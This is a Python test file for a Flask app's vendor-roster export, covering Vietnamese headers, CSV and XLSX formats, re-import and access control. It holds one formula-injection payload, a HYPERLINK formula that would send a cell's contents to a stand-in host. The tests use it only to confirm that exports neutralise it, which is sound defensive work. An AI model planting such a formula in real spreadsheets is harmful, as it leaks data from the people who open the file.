"""Exporting a roster: the import's columns with Vietnamese headers, the status today and the
sign code; every text cell inert in Excel; an export re-imports into another place; the
templates read back as the import wants them."""

from __future__ import annotations

import csv
import io
from datetime import date

from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.markets import imports, services
from app.markets.vendor_files import HEADERS, PLACE_COLUMNS
from tests.factories import bearer, sign_in
from tests.markets.conftest import ACCOUNT, BANK, World, add_step, add_vendor

EVIL = '=HYPERLINK("http://x.example/?a="&A1,"bấm")'


def _roster(world: World) -> None:
    dao = add_vendor(world, "Cô Đào", phone="0912345678", stall_ids=[world.stalls[0].id])
    services.add_account(
        world.officer_a, dao, {"bank": BANK, "number": ACCOUNT, "holder_name": "NGUYEN THI DAO"}
    )
    add_step(world, dao, "enrolled", date(2026, 3, 1))
    add_step(world, dao, "receiving", date(2026, 4, 2))
    ba = add_vendor(world, "Bác Ba", goods="+Rau -củ", stall_ids=[world.stalls[1].id])
    add_step(world, ba, "not_taking_part", date(2026, 3, 1), "elderly")
    add_vendor(world, EVIL)


def test_xlsx_export_has_the_columns_and_inert_text(client: FlaskClient, world: World) -> None:
    _roster(world)
    response = client.get(
        f"/api/v1/markets/{world.market.id}/vendors/export.xlsx", headers=bearer(world.viewer_a)
    )
    assert response.status_code == 200
    assert "danh-sach-cho-cho-an-binh-" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == [HEADERS[k] for k in PLACE_COLUMNS["market"]] + [
        "Trạng thái hôm nay",
        "Mã biển",
    ]
    by_name = {row[0]: row for row in rows[1:]}
    dao = by_name["Cô Đào"]
    assert dao[:11] == [
        "Cô Đào",
        "0912345678",
        None,
        "1",
        "Dãy A",
        "VietinBank",
        ACCOUNT,
        "NGUYEN THI DAO",
        "có",
        None,
        None,
    ]
    assert dao[11] == "Đang nhận chuyển khoản" and str(dao[12]).startswith("QT")
    assert by_name["Bác Ba"][8:10] == ["không", "Người cao tuổi"]
    # The formula-like name is a string cell with a quote prefix, never a formula.
    evil = next(row for row in sheet.iter_rows() if row[0].value == EVIL)[0]
    assert evil.data_type == "s" and evil.quotePrefix
    goods = next(row for row in sheet.iter_rows() if row[0].value == "Bác Ba")[2]
    assert goods.value == "+Rau -củ" and goods.data_type == "s" and goods.quotePrefix
    assert "<f>" not in _sheet_xml(response.data)


def _sheet_xml(data: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_csv_export_has_a_bom_and_the_apostrophe_guard(client: FlaskClient, world: World) -> None:
    _roster(world)
    sign_in(client, world.viewer_a)
    response = client.get(f"/cho/{world.market.id}/danh-sach.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "Họ tên"
    names = [row[0] for row in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names
    assert ["'+Rau -củ"] == [row[2] for row in rows[1:] if row[0] == "Bác Ba"]


def test_an_export_imports_into_another_market(client: FlaskClient, world: World) -> None:
    _roster(world)
    other = services.create_market(
        world.officer_a,
        {"name": "Chợ Mới", "locality_id": world.places.commune_a.id, "kind": "tam"},
    )
    headers = bearer(world.officer_a)
    for fmt in ("csv", "xlsx"):
        exported = client.get(
            f"/api/v1/markets/{world.market.id}/vendors/export.{fmt}", headers=headers
        )
        preview = client.post(
            f"/api/v1/markets/{other.id}/vendors/import?dry_run=1",
            data={"file": (io.BytesIO(exported.data), f"ds.{fmt}")},
            headers=headers,
        )
        assert preview.status_code == 200, preview.get_json()
        rows = preview.get_json()["rows"]
        assert [row["given"]["name"] for row in rows] == ["Bác Ba", "Cô Đào", EVIL]
        # The export's formula-like name comes back as written, and is refused as a formula.
        assert list(rows[2]["errors"]) == ["name"]
        assert rows[0]["given"]["goods"] == "+Rau -củ" and rows[0]["errors"] == {}
        assert (rows[1]["bank_bin"], rows[1]["account"], rows[1]["stalls"]) == (
            BANK,
            ACCOUNT,
            ["1"],
        )
        assert (rows[0]["taking_part"], rows[0]["reason"]) == (False, "elderly")


def test_templates_read_back_with_their_example_rows(client: FlaskClient, world: World) -> None:
    street = services.create_street(
        world.officer_a, {"name": "Phố Hàng Đào", "locality_id": world.places.commune_a.id}
    )
    for place, path, target in (
        ("cho", "market", world.market),
        ("tuyen-pho", "street", street),
    ):
        for fmt in ("csv", "xlsx"):
            blank = client.get(f"/mau-danh-sach-tieu-thuong/{place}.{fmt}")
            api = client.get(f"/api/v1/vendor-import-template/{path}.{fmt}")
            assert blank.status_code == api.status_code == 200 and blank.data == api.data
            with client.application.test_request_context():
                preview = imports.preview_file(world.officer_a, target, f"mau.{fmt}", blank.data)
            assert preview.valid, [d.errors for d in preview.rows]
            assert preview.rows[0].given["taking_part"] == "có"
    book = load_workbook(io.BytesIO(client.get("/mau-danh-sach-tieu-thuong/cho.xlsx").data))
    assert book.sheetnames == ["Danh sách", "Hướng dẫn"]
    assert [c.value for c in book["Danh sách"][1]][:4] == [
        "Họ tên",
        "Điện thoại",
        "Mặt hàng",
        "Số sạp",
    ]


def test_export_is_for_those_who_may_see_the_place(client: FlaskClient, world: World) -> None:
    path = f"/api/v1/markets/{world.market.id}/vendors/export.csv"
    assert client.get(path).status_code == 401
    assert client.get(path, headers=bearer(world.officer_b)).status_code == 403
    assert (
        client.get(
            "/api/v1/markets/99999/vendors/export.csv", headers=bearer(world.admin)
        ).status_code
        == 404
    )
